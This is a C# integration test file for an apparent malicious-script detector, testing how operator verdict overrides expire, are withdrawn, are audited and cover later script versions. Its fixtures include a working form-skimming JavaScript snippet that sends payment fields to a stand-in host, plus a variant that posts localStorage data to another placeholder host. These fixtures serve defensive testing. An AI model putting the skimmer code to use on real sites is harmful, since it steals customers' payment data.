using Microsoft.EntityFrameworkCore;
using PageShield.Detection.Overrides;
using PageShield.Inventory;
using PageShield.Inventory.Scripts;
using PageShield.Reports;
using static PageShield.IntegrationTests.Inventory.Captures;

namespace PageShield.IntegrationTests.Detection;

public sealed class OverrideTests
{
    private const string Url = "https://cdn.vendor.example/tag.js";
    private const string Harmless = "function go(a) { return a + 1; } show(go(1));";

    private const string Skimmer = """
        var form = document.querySelector('form#payment');
        form.addEventListener('submit', function () {
          var fields = {};
          form.querySelectorAll('input').forEach(function (field) { fields[field.name] = field.value; });
          new Image().src = 'https://metrics-cdn.example/p.gif?d=' + btoa(JSON.stringify(fields));
        });
        """;

    private const string OtherCode = Skimmer + "\nfunction tick(a) { log(a); return a + 1; } tick(1);";
    private const string NewCapability = Skimmer + "\nfetch('https://collect.example/x', { method: 'POST', body: localStorage.getItem('basket') });";

    private static CancellationToken Cancel => TestContext.Current.CancellationToken;

    [Theory]
    [MemberData(nameof(TestDatabase.Providers), MemberType = typeof(TestDatabase))]
    public async Task An_override_counts_in_the_place_of_the_verdict_and_the_machines_own_stays_beside_it(Provider provider)
    {
        await using var site = await JudgedSite.CreateAsync(provider);
        await site.CrawlAsync(Of("https://shop.example/", (File(Url), Skimmer)));
        var judged = await site.ScriptAsync(Url);

        var said = await SetAsync(site, VerdictKind.Clean);
        await site.CrawlAsync(Of("https://shop.example/", (File(Url), Skimmer)));

        var script = await site.ScriptAsync(Url);
        Assert.Equal((VerdictKind.Malicious, null), (judged.Verdict, judged.OverruledVerdict));
        Assert.Equal((VerdictKind.Clean, VerdictKind.Malicious, judged.Score), (script.Verdict, script.OverruledVerdict, script.Score));
        Assert.Equal((VerdictKind.Malicious, judged.Score, "ann", true), (said.MachineVerdict, said.MachineScore, said.Author, said.IsInForce));
        Assert.Equal(site.Time.GetUtcNow().AddHours(-1).AddDays(90), said.ExpiresAt);
        Assert.Single(await site.AttacksAsync());
        var entry = await site.AskAsync(
            database => database.AuditEntries.AsNoTracking().SingleAsync(each => each.Action == "script.overruled", Cancel));
        Assert.Null(entry.Before);
        Assert.Contains("the vendor confirmed it", entry.After, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("/* v2 */ " + Skimmer, true)]
    [InlineData(OtherCode, true)]
    [InlineData(NewCapability, false)]
    public async Task An_override_covers_later_versions_that_can_do_nothing_new(string later, bool isCovered)
    {
        await using var site = await JudgedSite.CreateAsync(Provider.Sqlite);
        await site.CrawlAsync(Of("https://shop.example/", (File(Url), Skimmer)));
        await SetAsync(site, VerdictKind.Clean);

        await site.CrawlAsync(Of("https://shop.example/", (File(Url), later)));

        var script = await site.ScriptAsync(Url);
        Assert.Equal(isCovered ? (VerdictKind.Clean, VerdictKind.Malicious) : (VerdictKind.Malicious, (VerdictKind?)null),
            (script.Verdict, script.OverruledVerdict));
        Assert.Equal(isCovered ? 1 : 2, (await site.AttacksAsync()).Count);
    }

    [Fact]
    public async Task A_version_that_is_not_covered_is_named_with_what_it_can_do_and_the_override_holds_again_when_it_is_gone()
    {
        await using var site = await JudgedSite.CreateAsync(Provider.Sqlite);
        await site.CrawlAsync(Of("https://shop.example/", (File(Url), Skimmer)));
        await SetAsync(site, VerdictKind.Clean);
        await site.CrawlAsync(Of("https://shop.example/", (File(Url), NewCapability)));

        var uncovered =
            await site.AskAsync(
            async database =>
                await new OverrideCoverage(database).FindUncoveredAsync(await database.VerdictOverrides.AsNoTracking().SingleAsync(Cancel), Cancel));
        var between = await ListAsync(site);
        await site.CrawlAsync(Of("https://shop.example/", (File(Url), Skimmer)));

        Assert.Equal(Sha256Hash.OfText(NewCapability), Assert.Single(uncovered).Sha256);
        Assert.Contains("collect.example", uncovered[0].Why, StringComparison.Ordinal);
        Assert.False(Assert.Single(between).IsInForce);
        Assert.Equal(VerdictKind.Clean, (await site.ScriptAsync(Url)).Verdict);
        Assert.True(Assert.Single(await ListAsync(site)).IsInForce);
    }

    [Fact]
    public async Task A_step_that_brings_an_ability_back_is_not_covered_even_where_the_code_is_much_as_it_was()
    {
        await using var site = await JudgedSite.CreateAsync(Provider.Sqlite);
        await site.CrawlAsync(Of("https://shop.example/", (File(Url), Skimmer)));
        await SetAsync(site, VerdictKind.Clean);
        await site.CrawlAsync(Of("https://shop.example/", (File(Url), Harmless)));

        await site.CrawlAsync(Of("https://shop.example/", (File(Url), OtherCode)));

        Assert.Equal(VerdictKind.Malicious, (await site.ScriptAsync(Url)).Verdict);
    }

    [Theory]
    [MemberData(nameof(TestDatabase.Providers), MemberType = typeof(TestDatabase))]
    public async Task When_its_time_is_over_the_machines_verdict_counts_again_and_its_alert_is_raised_once(Provider provider)
    {
        await using var site = await JudgedSite.CreateAsync(provider);
        await site.CrawlAsync(Of("https://shop.example/", (File(Url), Skimmer)));
        await SetAsync(site, VerdictKind.Clean, days: 30);

        site.Time.Advance(TimeSpan.FromDays(29));
        await site.CheckAsync();
        var early = (await ListAsync(site))[0].End;
        site.Time.Advance(TimeSpan.FromDays(1));
        await site.CheckAsync();
        await site.CheckAsync();
        await site.CrawlAsync(Of("https://shop.example/", (File(Url), Skimmer)));

        Assert.Null(early);
        Assert.Equal((VerdictKind.Malicious, null), ((await site.ScriptAsync(Url)).Verdict, (await site.ScriptAsync(Url)).OverruledVerdict));
        var attacks = await site.AttacksAsync();
        Assert.Equal(2, attacks.Count);
        Assert.Contains("had overridden this verdict. The override has ended (expired)", attacks[1].Body, StringComparison.Ordinal);
        var ended = Assert.Single(await ListAsync(site));
        Assert.Equal((OverrideEnd.Expired, "system"), (ended.End, ended.EndedBy));
        Assert.Equal(1,
            await site.AskAsync(
            database => database.AuditEntries.CountAsync(each => each.Action == "overrule.expired" && each.Before != null && each.After != null,
                Cancel)));
    }

    [Fact]
    public async Task A_withdrawn_override_stays_in_the_history_and_the_alert_goes_out_at_once()
    {
        await using var site = await JudgedSite.CreateAsync(Provider.Sqlite);
        await site.CrawlAsync(Of("https://shop.example/", (File(Url), Skimmer)));
        var said = await SetAsync(site, VerdictKind.Clean);

        var was = await site.AskAsync(database => site.Overrides.WithdrawAsync(database, site.SiteId, said.Id, "bob", Cancel));
        var again = await site.AskAsync(database => site.Overrides.WithdrawAsync(database, site.SiteId, said.Id, "eve", Cancel));
        var other = await site.AskAsync(database => site.Overrides.WithdrawAsync(database, site.SiteId, 999, "eve", Cancel));

        Assert.Equal((true, true, false), (was, again, other));
        var ended = Assert.Single(await ListAsync(site));
        Assert.Equal((OverrideEnd.Withdrawn, "bob"), (ended.End, ended.EndedBy));
        Assert.Equal(VerdictKind.Malicious, (await site.ScriptAsync(Url)).Verdict);
        Assert.Equal(2, (await site.AttacksAsync()).Count);
        Assert.Equal(1, await site.AskAsync(database => database.AuditEntries.CountAsync(each => each.Action == "overrule.withdrawn", Cancel)));
    }

    [Fact]
    public async Task A_script_that_an_operator_calls_malicious_is_told_with_the_reason_until_somebody_says_otherwise()
    {
        await using var site = await JudgedSite.CreateAsync(Provider.Sqlite);
        await site.CrawlAsync(Of("https://shop.example/", (File(Url), Harmless)));

        await SetAsync(site, VerdictKind.Malicious, reason: "Seen in a raid on another shop");
        await site.CrawlAsync(Of("https://shop.example/", (File(Url), Harmless)));
        var between = await site.ScriptAsync(Url);
        await SetAsync(site, VerdictKind.Clean);

        Assert.Equal((VerdictKind.Malicious, VerdictKind.Clean), (between.Verdict, between.OverruledVerdict));
        Assert.Contains("ann set this verdict. The automatic verdict is clean. Reason: Seen in a raid on another shop",
            Assert.Single(await site.AttacksAsync()).Body, StringComparison.Ordinal);
        Assert.Equal([null, OverrideEnd.Replaced], (await ListAsync(site)).Select(row => row.End));
        Assert.Equal(VerdictKind.Clean, (await site.ScriptAsync(Url)).Verdict);
    }

    [Theory]
    [InlineData(VerdictKind.Suspicious, "Because", 90, "verdict")]
    [InlineData(VerdictKind.Clean, "  ", 90, "reason")]
    [InlineData(VerdictKind.Clean, "Because", 0, "days")]
    [InlineData(VerdictKind.Clean, "Because", 366, "days")]
    public async Task A_draft_without_verdict_reason_or_end_is_refused(VerdictKind verdict, string reason, int days, string field)
    {
        await using var site = await JudgedSite.CreateAsync(Provider.Sqlite);
        await site.CrawlAsync(Of("https://shop.example/", (File(Url), Skimmer)));
        var script = await site.ScriptAsync(Url);

        var (said, problems) = await site.AskAsync(database => site.Overrides.SetAsync(
            database, site.SiteId, script.Id,
            new OverrideDraft { Verdict = verdict, Reason = reason, Days = days, Sha256 = Sha256Hash.OfText("another") },
            "ann", Cancel));

        Assert.Null(said);
        Assert.Equal([field, "sha256"], problems!.Keys); // not null: refused
        Assert.Empty(await ListAsync(site));
    }

    private static async Task<OverrideRow> SetAsync(JudgedSite site, VerdictKind verdict, int days = OverrideDraft.DefaultDays,
        string reason = "Our own form library; the vendor confirmed it.")
    {
        site.Time.Advance(TimeSpan.FromMinutes(1));
        var script = await site.ScriptAsync(Url);
        await using var database = site.Database.CreateDbContext();
        var (said, problems) =
            await site.Overrides.SetAsync(
            database, site.SiteId, script.Id, new OverrideDraft { Verdict = verdict, Reason = reason, Days = days }, "ann", Cancel);
        Assert.Null(problems);
        return said!; // not null: nothing was wrong
    }

    private static async Task<IReadOnlyList<OverrideRow>> ListAsync(JudgedSite site) =>
        (await site.AskAsync(database => database.ListOverridesAsync(new OverrideFilter { SiteId = site.SiteId }, null, 50, Cancel))).Items;
}
